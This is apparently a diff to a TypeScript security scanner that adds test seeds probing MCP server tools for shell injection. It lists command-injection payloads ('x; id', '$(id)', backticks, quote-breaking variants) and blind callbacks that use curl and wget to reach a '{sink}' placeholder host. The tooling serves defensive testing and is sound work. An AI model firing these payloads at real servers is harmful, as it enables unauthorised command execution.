@@ -2,7 +2,7 @@ import { defineCategory, type Seed } from '../../engine/category.ts'
 import { withOracles } from '../../corpus/corpus-seeds.ts'
 import { shellInjectionCorpus } from '../../corpus/shell-injection.ts'
 import { SHELL_TOOLS, reaching } from '../shared/machine-tools.ts'
-import { COMMAND_OUTPUT, COMMAND_REPORTED, probes } from '../shared/tool-probes.ts'
+import { COMMAND_OUTPUT, COMMAND_REPORTED, probes, probesByKind } from '../shared/tool-probes.ts'
 
 /** Commands that print the two parts as one word, or its digest: the output cannot be guessed without execution. */
 const COMMANDS: readonly string[] = [
@@ -41,6 +41,32 @@ const seeds: readonly Seed[] = [
     needs: ['mcp'],
     oracles: [{ kind: 'digest' }, { kind: 'marker' }],
     turns: [probes([...COMMANDS, ...COMMANDS.map((command) => `127.0.0.1; ${command}`)])],
+  },
+  {
+    id: 'command-to-every-parameter',
+    language: 'en',
+    idea: 'Calls every tool of a server with a command behind each of its parameters.',
+    needs: ['mcp'],
+    oracles: [COMMAND_OUTPUT],
+    turns: [
+      probesByKind(
+        { command: ['x; id', 'x$(id)'], code: ['`id`'] },
+        { command: ['| id', '`id`', 'x & id', '"; id #', "'; id #", 'x\nid', '--version; id', 'id'] },
+      ),
+    ],
+  },
+  {
+    id: 'command-calls-home-from-every-tool',
+    language: 'en',
+    idea: 'Calls every tool of a server with a command that requests an address of the run, so that blind execution shows.',
+    needs: ['mcp', 'sink'],
+    oracles: [{ kind: 'sink' }],
+    turns: [
+      probesByKind(
+        { command: ['x; curl {sink}/a', '$(curl {sink}/b)'] },
+        { command: ['`wget -q {sink}/c`', 'x | curl -s {sink}/d', 'x && curl {sink}/e', '"; curl {sink}/f #'] },
+      ),
+    ],
   },
   {
     id: 'plain-command',
